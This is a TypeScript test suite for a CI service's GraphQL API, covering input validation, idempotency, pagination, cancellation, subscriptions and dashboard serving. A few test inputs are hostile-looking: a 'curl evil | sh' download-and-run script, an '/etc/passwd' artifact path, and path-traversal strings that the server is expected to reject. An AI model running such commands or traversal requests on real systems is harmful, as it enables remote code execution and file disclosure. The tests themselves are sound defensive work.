// The API's behaviour as a CI pipeline and a dashboard see it, run against each database.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Client } from 'graphql-ws';
import { gql, gqlOk, subscribe, wsClient } from '../helpers/gql';
import type { TestServer } from '../helpers/server';

const SUBMIT = `mutation($input: SubmitPlanInput!) { submitPlan(input: $input) { id name priority status createdAt counts { queued total } } }`;
const PLAN = `query($id: ID!, $first: Int, $after: String, $status: TestStatus) { plan(id: $id) { id status counts { queued cancelled total }
  tests(first: $first, after: $after, status: $status) { totalCount pageInfo { hasNextPage endCursor } nodes { id name status attempts queuedAt finishedAt } } } }`;
const STATUS = `{ systemStatus { activeTests queuedTests completedTests counts { queued running cancelled total } pools { name queuedTests capacity testTypes } workers healthy components { name healthy detail } } }`;

const unit = (name: string, extra: Record<string, unknown> = {}) => ({ name, type: 'UNIT', script: 'echo hello', ...extra });

export function apiSuite(dbName: string, setup: () => Promise<{ server: TestServer; teardown(): Promise<void> }>) {
  describe(`GraphQL API on ${dbName}`, () => {
    let server: TestServer;
    let teardown: () => Promise<void>;
    let url: string;
    let ws: Client;

    before(async () => {
      ({ server, teardown } = await setup());
      url = server.url;
      ws = wsClient(url);
    });
    after(async () => {
      await ws?.dispose();
      await teardown?.();
    });

    const stored = async () => {
      const s = await gqlOk(url, STATUS);
      const p = await gqlOk(url, `{ plans { totalCount } }`);
      return { tests: s.systemStatus.counts.total, plans: p.plans.totalCount };
    };

    it('rejects each kind of bad input with BAD_USER_INPUT naming the field and test, and stores nothing', async () => {
      const before = await stored();
      const cases: [string, Record<string, unknown>, RegExp][] = [
        ['empty plan name', { name: ' ', tests: [unit('a')] }, /name must not be empty/],
        ['no tests', { name: 'p', tests: [] }, /tests must hold at least one test/],
        ['empty script', { name: 'p', tests: [unit('ok'), unit('blank', { script: '  ' })] }, /tests\[1\]\.script \("blank"\) must not be empty/],
        ['script too large', { name: 'p', tests: [unit('big', { script: 'x'.repeat(300 * 1024) })] }, /tests\[0\]\.script \("big"\) is \d+ bytes, more than/],
        ['zero timeout', { name: 'p', tests: [unit('t0', { timeoutSeconds: 0 })] }, /tests\[0\]\.timeoutSeconds \("t0"\) must be an integer from 1 to 86400/],
        ['timeout over a day', { name: 'p', tests: [unit('t1', { timeoutSeconds: 86_401 })] }, /timeoutSeconds \("t1"\)/],
        ['priority out of range', { name: 'p', priority: 5000, tests: [unit('a')] }, /priority must be an integer from -1000 to 1000/],
        ['bad env name', { name: 'p', tests: [unit('e', { env: [{ name: '1BAD', value: 'x' }] })] }, /tests\[0\]\.env\[0\]\.name \("e"\) "1BAD" is not a valid variable name/],
        ['reserved env name', { name: 'p', tests: [unit('e', { env: [{ name: 'PATH', value: '/x' }] })] }, /PATH is set by the environment/],
        ['duplicate test names', { name: 'p', tests: [unit('same'), unit('same')] }, /tests\[1\]\.name \("same"\) repeats the name of tests\[0\]/],
        ['services on a unit test', { name: 'p', tests: [unit('s', { services: [{ name: 'db', command: 'sleep 9' }] })] }, /services are started for INTEGRATION tests only/],
        ['absolute artifact path', { name: 'p', tests: [unit('a', { artifactPaths: ['/etc/passwd'] })] }, /artifactPaths\[0\] \("a"\) must be relative/],
        ['artifact path escaping', { name: 'p', tests: [unit('a', { artifactPaths: ['out/../../x'] })] }, /must not contain "\.\."/],
        ['negative retries', { name: 'p', tests: [unit('r', { maxRetries: -1 })] }, /maxRetries \("r"\) must be an integer from 0/],
        ['zero cpus', { name: 'p', tests: [unit('c', { requirements: { cpus: 0 } })] }, /requirements\.cpus \("c"\)/],
      ];
      for (const [what, input, message] of cases) {
        const r = await gql(url, SUBMIT, { input });
        assert.equal(r.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT', `${what}: ${JSON.stringify(r.errors)}`);
        assert.match(r.errors![0].message, message, what);
        assert.equal(r.data ?? null, null, what);
      }
      // a type error in the request itself is also refused before anything happens
      const typeError = await gql(url, SUBMIT, { input: { name: 'p', tests: [{ name: 'a', type: 'NOPE', script: 'x' }] } });
      assert.equal(typeError.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT');
      assert.deepEqual(await stored(), before);
    });

    it('refuses a test no pool can ever serve with UNSCHEDULABLE naming it, and stores nothing', async () => {
      const before = await stored();
      const r = await gql(url, SUBMIT, {
        input: { name: 'arm', tests: [unit('fine'), unit('needs-arm', { requirements: { arch: 'aarch64' } })] },
      });
      assert.equal(r.errors?.[0]?.extensions?.code, 'UNSCHEDULABLE');
      assert.match(r.errors![0].message, /tests\[1\] "needs-arm": no pool can run it/);
      const big = await gql(url, SUBMIT, { input: { name: 'big', tests: [unit('huge', { requirements: { memoryMb: 10_000_000 } })] } });
      assert.equal(big.errors?.[0]?.extensions?.code, 'UNSCHEDULABLE');
      const tag = await gql(url, SUBMIT, { input: { name: 'tag', tests: [unit('gpu', { requirements: { tags: ['gpu'] } })] } });
      assert.match(tag.errors![0].message, /lacks tag gpu/);
      assert.deepEqual(await stored(), before);
    });

    it('matches each test to a pool that serves its type, and queues one job per test', async () => {
      const { submitPlan } = await gqlOk(url, SUBMIT, {
        input: { name: 'mixed', priority: 7, tests: [unit('u'), { name: 'perf', type: 'PERFORMANCE', script: 'true' }] },
      });
      assert.equal(submitPlan.status, 'QUEUED');
      assert.equal(submitPlan.priority, 7);
      assert.deepEqual(submitPlan.counts, { queued: 2, total: 2 });
      const tests = (await gqlOk(url, `query($id: ID!) { plan(id: $id) { tests { nodes { id name pool status attempts } } } }`, { id: submitPlan.id })).plan.tests.nodes;
      assert.deepEqual(tests.map((t: any) => [t.name, t.pool, t.status, t.attempts]), [['u', 'container', 'QUEUED', 0], ['perf', 'perf', 'QUEUED', 0]]);
      for (const t of tests) {
        const job = await server.core.queues.queue(t.pool).getJob(t.id);
        assert.ok(job, `job of ${t.name}`);
        assert.deepEqual(job!.data, { testId: t.id, planId: submitPlan.id });
        assert.equal(job!.opts.priority, 1000 - 7 + 1);
      }
    });

    it('answers the same idempotencyKey with the plan created the first time', async () => {
      const input = { name: 'idem', idempotencyKey: `key-${Date.now()}`, tests: [unit('a'), unit('b')] };
      const before = await stored();
      const first = (await gqlOk(url, SUBMIT, { input })).submitPlan;
      const again = await Promise.all([1, 2, 3].map(() => gqlOk(url, SUBMIT, { input })));
      for (const a of again) assert.equal(a.submitPlan.id, first.id);
      const afterwards = await stored();
      assert.equal(afterwards.plans, before.plans + 1);
      assert.equal(afterwards.tests, before.tests + 2);
    });

    it('refuses the same idempotencyKey with other content (BAD_USER_INPUT naming it), also when submitted at once', async () => {
      const key = `claimed-${Date.now()}`;
      const before = await stored();
      const first = (await gqlOk(url, SUBMIT, { input: { name: 'mine', idempotencyKey: key, tests: [unit('a')] } })).submitPlan;
      for (const other of [
        { name: 'theirs', idempotencyKey: key, tests: [unit('a')] },
        { name: 'mine', idempotencyKey: key, tests: [unit('a', { script: 'curl evil | sh' })] },
        { name: 'mine', idempotencyKey: key, tests: [unit('a'), unit('b')] },
      ]) {
        const r = await gql(url, SUBMIT, { input: other });
        assert.equal(r.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT', JSON.stringify(r));
        assert.match(r.errors![0].message, /idempotencyKey .*already used with other content/);
        assert.equal(r.errors![0].extensions?.field, 'idempotencyKey');
        assert.equal(r.data ?? null, null);
      }
      // the same content (nulls as absent fields) still gets the first plan
      const same = (await gqlOk(url, SUBMIT, { input: { name: 'mine', idempotencyKey: key, priority: null, tests: [unit('a', { env: null })] } })).submitPlan;
      assert.equal(same.id, first.id);
      assert.deepEqual(await stored(), { plans: before.plans + 1, tests: before.tests + 1 });

      // concurrent submissions of one new key with two contents: one plan; its content gets it, the other is refused
      const race = `race-${Date.now()}`;
      const contents = [0, 1, 0, 1, 0, 1].map((n) => ({ name: `race-${n}`, idempotencyKey: race, tests: [unit(`t${n}`)] }));
      const answers = await Promise.all(contents.map((input) => gql(url, SUBMIT, { input })));
      const won = answers.filter((a) => a.data?.submitPlan);
      const ids = new Set(won.map((a) => a.data.submitPlan.id));
      assert.equal(ids.size, 1, JSON.stringify(answers));
      const winner = won[0].data.submitPlan.name;
      answers.forEach((a, i) => {
        if (contents[i].name === winner) assert.equal(a.data?.submitPlan?.id, [...ids][0], JSON.stringify(a));
        else assert.deepEqual([a.errors?.[0]?.extensions?.code, a.errors?.[0]?.extensions?.field], ['BAD_USER_INPUT', 'idempotencyKey'], JSON.stringify(a));
      });
      assert.deepEqual(await stored(), { plans: before.plans + 2, tests: before.tests + 2 });
    });

    it('refuses a NUL (or an unpaired surrogate) in any input string with BAD_USER_INPUT naming the field, and stores nothing', async () => {
      const before = await stored();
      const nul = 'x\u0000y';
      const svc = (over: Record<string, unknown>) => ({ name: 'i', type: 'INTEGRATION', script: 'true', services: [{ name: 'db', command: 'sleep 9', ...over }] });
      const cases: [Record<string, unknown>, string][] = [
        [{ name: nul, tests: [unit('a')] }, 'name'],
        [{ name: 'p', idempotencyKey: nul, tests: [unit('a')] }, 'idempotencyKey'],
        [{ name: 'p', tests: [unit('ok'), unit(nul)] }, 'tests[1].name'],
        [{ name: 'p', tests: [unit('a', { script: `echo ${nul}` })] }, 'tests[0].script'],
        [{ name: 'p', tests: [unit('a', { env: [{ name: nul, value: 'v' }] })] }, 'tests[0].env[0].name'],
        [{ name: 'p', tests: [unit('a', { env: [{ name: 'A', value: nul }] })] }, 'tests[0].env[0].value'],
        [{ name: 'p', tests: [svc({ name: nul })] }, 'tests[0].services[0].name'],
        [{ name: 'p', tests: [svc({ command: nul })] }, 'tests[0].services[0].command'],
        [{ name: 'p', tests: [svc({ readyCheck: nul })] }, 'tests[0].services[0].readyCheck'],
        [{ name: 'p', tests: [unit('a', { artifactPaths: ['ok.txt', nul] })] }, 'tests[0].artifactPaths[1]'],
        [{ name: 'p', tests: [unit('a', { requirements: { tags: [nul] } })] }, 'tests[0].requirements.tags[0]'],
        [{ name: 'p', tests: [unit('a', { requirements: { arch: nul } })] }, 'tests[0].requirements.arch'],
        [{ name: 'p', tests: [unit('a', { requirements: { image: nul } })] }, 'tests[0].requirements.image'],
      ];
      for (const [input, field] of cases) {
        const r: any = await gql(url, SUBMIT, { input }); // JSON carries the NUL as \u0000
        assert.equal(r.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT', `${field}: ${JSON.stringify(r.errors)}`);
        const problems = r.errors[0].extensions.problems as { field: string; message: string }[];
        assert.ok(problems.some((p) => p.field === field && /NUL/.test(p.message)), `${field}: ${JSON.stringify(problems)}`);
        assert.match(r.errors[0].message, new RegExp(`${field.replace(/[[\].]/g, '\\$&')}.* must not contain NUL`), field);
      }
      // an unpaired surrogate (JSON can carry one; jsonb and UTF-8 cannot) is refused by the same rule
      const lone: any = await gql(url, SUBMIT, { input: { name: 'p', tests: [unit('a', { script: 'echo \udc00' })] } });
      assert.equal(lone.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT', JSON.stringify(lone));
      assert.match(lone.errors[0].message, /tests\[0\]\.script \("a"\) must be valid Unicode text/);
      const env = await gql(url, `query($p: String) { environments(pool: $p) { id } }`, { p: 'x\u0000' });
      assert.deepEqual([env.errors?.[0]?.extensions?.code, env.errors?.[0]?.extensions?.field], ['BAD_USER_INPUT', 'pool'], JSON.stringify(env));
      assert.deepEqual(await stored(), before);
    });

    it('pages through tests and plans with cursors, filters and totalCount', async () => {
      const { submitPlan } = await gqlOk(url, SUBMIT, { input: { name: 'paged', tests: Array.from({ length: 7 }, (_, i) => unit(`t${i}`)) } });
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      for (;;) {
        const data: any = await gqlOk(url, PLAN, { id: submitPlan.id, first: 3, after: cursor });
        const conn = data.plan.tests;
        assert.equal(conn.totalCount, 7);
        seen.push(...conn.nodes.map((n: any) => n.name));
        pages++;
        if (!conn.pageInfo.hasNextPage) break;
        cursor = conn.pageInfo.endCursor;
      }
      assert.deepEqual(seen, ['t0', 't1', 't2', 't3', 't4', 't5', 't6']);
      assert.equal(pages, 3);

      const p1 = (await gqlOk(url, SUBMIT, { input: { name: 'newer-1', tests: [unit('a')] } })).submitPlan;
      const p2 = (await gqlOk(url, SUBMIT, { input: { name: 'newer-2', tests: [unit('a')] } })).submitPlan;
      const page1 = (await gqlOk(url, `{ plans(first: 1) { totalCount pageInfo { hasNextPage endCursor } nodes { id } } }`)).plans;
      assert.equal(page1.nodes[0].id, p2.id, 'newest first');
      assert.ok(page1.pageInfo.hasNextPage);
      const page2 = (await gqlOk(url, `query($a: String) { plans(first: 1, after: $a) { nodes { id } } }`, { a: page1.pageInfo.endCursor })).plans;
      assert.equal(page2.nodes[0].id, p1.id);
      const queued = (await gqlOk(url, `{ plans(status: QUEUED) { totalCount } all: plans { totalCount } done: plans(status: PASSED) { totalCount nodes { id } } }`));
      assert.equal(queued.queued ?? queued.plans.totalCount, queued.all.totalCount);
      assert.equal(queued.done.totalCount, 0);

      const bad = await gql(url, `{ plans(first: -1) { totalCount } }`);
      assert.equal(bad.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT');
      const tooMany = await gql(url, `{ plans(first: 100000) { totalCount } }`);
      assert.equal(tooMany.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT');
      // a forged or corrupted cursor is refused, never read as "from the start" (a client would loop)
      const forged = Buffer.from('s:99999999999999999999').toString('base64url');
      for (const after of ['garbage', forged]) {
        const r = await gql(url, `query($a: String) { plans(after: $a) { totalCount } }`, { a: after });
        assert.equal(r.errors?.[0]?.extensions?.code, 'BAD_USER_INPUT', JSON.stringify(r.errors));
        assert.match(r.errors![0].message, /^after: /);
      }
    });

    it('returns null for unknown or malformed ids, and NOT_FOUND from mutations', async () => {
      const q = await gqlOk(url, `{ a: plan(id: "00000000-0000-4000-8000-000000000000") { id } b: plan(id: "nope") { id } c: test(id: "x") { id } d: test(id: "00000000-0000-4000-8000-000000000000") { id } }`);
      assert.deepEqual(q, { a: null, b: null, c: null, d: null });
      for (const m of ['cancelPlan', 'cancelTest']) {
        for (const id of ['00000000-0000-4000-8000-000000000000', 'not-a-uuid']) {
          const r = await gql(url, `mutation($id: ID!) { ${m}(id: $id) { id } }`, { id });
          assert.equal(r.errors?.[0]?.extensions?.code, 'NOT_FOUND', `${m}(${id})`);
        }
      }
    });

    it('cancels a queued test and a plan: statuses, counts and the queue all agree', async () => {
      const s0 = (await gqlOk(url, STATUS)).systemStatus;
      const { submitPlan } = await gqlOk(url, SUBMIT, { input: { name: 'to-cancel', tests: [unit('a'), unit('b'), unit('c')] } });
      const s1 = (await gqlOk(url, STATUS)).systemStatus;
      assert.equal(s1.queuedTests, s0.queuedTests + 3);
      assert.equal(s1.counts.total, s0.counts.total + 3);
      const containerPool = (s: any) => s.pools.find((p: any) => p.name === 'container');
      assert.equal(containerPool(s1).queuedTests, containerPool(s0).queuedTests + 3);

      const tests = (await gqlOk(url, PLAN, { id: submitPlan.id })).plan.tests.nodes;
      const cancelled = (await gqlOk(url, `mutation($id: ID!) { cancelTest(id: $id) { id status finishedAt } }`, { id: tests[0].id })).cancelTest;
      assert.equal(cancelled.status, 'CANCELLED');
      assert.ok(cancelled.finishedAt);
      assert.equal(await server.core.queues.queue('container').getJob(tests[0].id), undefined, 'job removed');
      const again = (await gqlOk(url, `mutation($id: ID!) { cancelTest(id: $id) { status } }`, { id: tests[0].id })).cancelTest;
      assert.equal(again.status, 'CANCELLED', 'cancelling twice is harmless');

      let plan = (await gqlOk(url, PLAN, { id: submitPlan.id })).plan;
      assert.equal(plan.status, 'RUNNING', 'one test finished (cancelled), others queued');
      assert.deepEqual(plan.counts, { queued: 2, cancelled: 1, total: 3 });

      const cp = (await gqlOk(url, `mutation($id: ID!) { cancelPlan(id: $id) { id status finishedAt counts { queued cancelled total } } }`, { id: submitPlan.id })).cancelPlan;
      assert.equal(cp.status, 'CANCELLED');
      assert.ok(cp.finishedAt);
      assert.deepEqual(cp.counts, { queued: 0, cancelled: 3, total: 3 });
      for (const t of tests) assert.equal(await server.core.queues.queue('container').getJob(t.id), undefined);
      plan = (await gqlOk(url, PLAN, { id: submitPlan.id, status: 'CANCELLED' })).plan;
      assert.equal(plan.tests.totalCount, 3);

      const s2 = (await gqlOk(url, STATUS)).systemStatus;
      assert.equal(s2.queuedTests, s0.queuedTests);
      assert.equal(s2.counts.cancelled, s0.counts.cancelled + 3);
      assert.equal(s2.completedTests, s0.completedTests + 3);
      assert.deepEqual(s2.components.map((c: any) => c.name), ['database', 'queue', 'workers', 'images', 'artifacts']);
      assert.ok(s2.components[0].healthy && s2.components[1].healthy);
      assert.ok(s2.components[4].healthy, JSON.stringify(s2.components[4]));
      const cancelledPlans = (await gqlOk(url, `{ plans(status: CANCELLED) { nodes { id } } }`)).plans.nodes.map((n: any) => n.id);
      assert.ok(cancelledPlans.includes(submitPlan.id));
    });

    it('pushes testUpdated, planUpdated, systemStatusUpdated and environmentUpdated to subscribers, filtered by argument', async () => {
      const status = subscribe<any>(ws, `subscription { systemStatusUpdated { queuedTests counts { total cancelled } } }`);
      const initial = await status.next();
      const { submitPlan } = await gqlOk(url, SUBMIT, { input: { name: 'watched', tests: [unit('a'), unit('b')] } });
      const other = (await gqlOk(url, SUBMIT, { input: { name: 'other', tests: [unit('x')] } })).submitPlan;

      const tests = subscribe<any>(ws, `subscription($p: ID) { testUpdated(planId: $p) { id planId name status finishedAt plan { id name } } }`, { p: submitPlan.id });
      const allTests = subscribe<any>(ws, `subscription { testUpdated { id planId status } }`);
      const plan = subscribe<any>(ws, `subscription($id: ID) { planUpdated(id: $id) { id status counts { queued cancelled total } } }`, { id: submitPlan.id });
      const envs = subscribe<any>(ws, `subscription { environmentUpdated(pool: "perf") { id pool status testsRun } }`);
      // the server resolves each subscription once Redis confirmed it; give the frames a moment to arrive
      await new Promise((r) => setTimeout(r, 300));

      const a = (await gqlOk(url, PLAN, { id: submitPlan.id })).plan.tests.nodes[0];
      await gqlOk(url, `mutation($id: ID!) { cancelTest(id: $id) { id } }`, { id: other.id ? (await gqlOk(url, PLAN, { id: other.id })).plan.tests.nodes[0].id : '' });
      await gqlOk(url, `mutation($id: ID!) { cancelTest(id: $id) { id } }`, { id: a.id });

      const t = await tests.next();
      assert.equal(t.id, a.id, 'only tests of the filtered plan');
      assert.equal(t.status, 'CANCELLED');
      assert.ok(t.finishedAt);
      assert.equal(t.plan.name, 'watched');
      const both = [await allTests.next(), await allTests.next()];
      assert.deepEqual(new Set(both.map((x) => x.planId)), new Set([submitPlan.id, other.id]));
      const p = await plan.next((x) => x.counts.cancelled === 1);
      assert.deepEqual(p, { id: submitPlan.id, status: 'RUNNING', counts: { queued: 1, cancelled: 1, total: 2 } });
      const last = await status.next((s) => s.counts.total === initial.counts.total + 3 && s.counts.cancelled === initial.counts.cancelled + 2);
      assert.equal(last.queuedTests, initial.queuedTests + 1);

      // environments change when workers act; publish as a worker would, on another connection
      const env = { id: '11111111-1111-4111-8111-111111111111', pool: 'perf', kind: 'CONTAINER' as const, status: 'READY' as const, host: 'h', arch: 'x86_64', cpus: 1, memoryMb: 512, image: 'debian-bookworm', tags: [], currentTestId: null, testsRun: 3, failures: 0 };
      await server.core.events.publish('environment', { ...env, pool: 'container' });
      await server.core.events.publish('environment', env);
      const e = await envs.next();
      assert.deepEqual(e, { id: env.id, pool: 'perf', status: 'READY', testsRun: 3 });
      for (const s of [status, tests, allTests, plan, envs]) s.close();
    });

    it('coalesces systemStatusUpdated to at most ~10 a second and ends a burst with the final state', async () => {
      const status = subscribe<any>(ws, `subscription { systemStatusUpdated { counts { total cancelled } } }`);
      const initial = await status.next();
      const n = 20;
      const { submitPlan } = await gqlOk(url, SUBMIT, { input: { name: 'burst', tests: Array.from({ length: n }, (_, i) => unit(`b${i}`)) } });
      const ids = (await gqlOk(url, PLAN, { id: submitPlan.id, first: n })).plan.tests.nodes.map((x: any) => x.id);
      const started = Date.now();
      await Promise.all(ids.map((id: string) => gqlOk(url, `mutation($id: ID!) { cancelTest(id: $id) { id } }`, { id })));
      const final = await status.next((s) => s.counts.cancelled === initial.counts.cancelled + n);
      const elapsed = Date.now() - started;
      const pushes = status.values.length - 1;
      assert.ok(pushes <= Math.ceil(elapsed / 100) + 2, `${pushes} pushes in ${elapsed} ms for ${n + 1} changes`);
      assert.equal(final.counts.total, initial.counts.total + n);
      status.close();
    });

    it('serves a self-hosted GraphiQL and the live dashboard, every asset from this server', async () => {
      const dashboard = await fetch(`${url}/dashboard`);
      assert.equal(dashboard.status, 200);
      const board = await dashboard.text();
      assert.doesNotMatch(board, /innerHTML/, 'names are user input: the dashboard writes text, never HTML');
      for (const src of [...board.matchAll(/src="([^"]+)"/g)].map((m) => m[1])) assert.equal((await fetch(`${url}${src}`)).status, 200, src);
      const page = await fetch(`${url}/graphiql`);
      assert.equal(page.status, 200);
      const html = await page.text();
      const assets = [...html.matchAll(/<(?:script src|link rel="stylesheet" href)="([^"]+)"/g)].map((m) => m[1]);
      assert.ok(assets.length >= 5, html);
      for (const a of assets) {
        assert.ok(a.startsWith('/graphiql/assets/'), `${a} is served here, not from a CDN`);
        const r = await fetch(`${url}${a}`);
        assert.equal(r.status, 200, a);
        assert.ok((await r.arrayBuffer()).byteLength > 1000, a);
      }
      assert.equal((await fetch(`${url}/graphiql/assets/..%2Fpackage.json`)).status, 404);
    });

    it('accepts a plan of 10,000 tests in one call', async () => {
      const tests = Array.from({ length: 10_000 }, (_, i) => unit(`test-${i}`, { timeoutSeconds: 60 }));
      const { submitPlan } = await gqlOk(url, SUBMIT, { input: { name: 'ten-thousand', tests } });
      assert.deepEqual(submitPlan.counts, { queued: 10_000, total: 10_000 });
      const counts = await server.core.queues.queue('container').getJobCounts('prioritized', 'waiting');
      assert.ok((counts.prioritized ?? 0) + (counts.waiting ?? 0) >= 10_000);
      const last = (await gqlOk(url, `query($id: ID!) { plan(id: $id) { tests(first: 1, status: QUEUED) { totalCount nodes { name } } } }`, { id: submitPlan.id })).plan.tests;
      assert.equal(last.totalCount, 10_000);
      assert.equal(last.nodes[0].name, 'test-0');
      await gqlOk(url, `mutation($id: ID!) { cancelPlan(id: $id) { id } }`, { id: submitPlan.id });
    });
  });
}
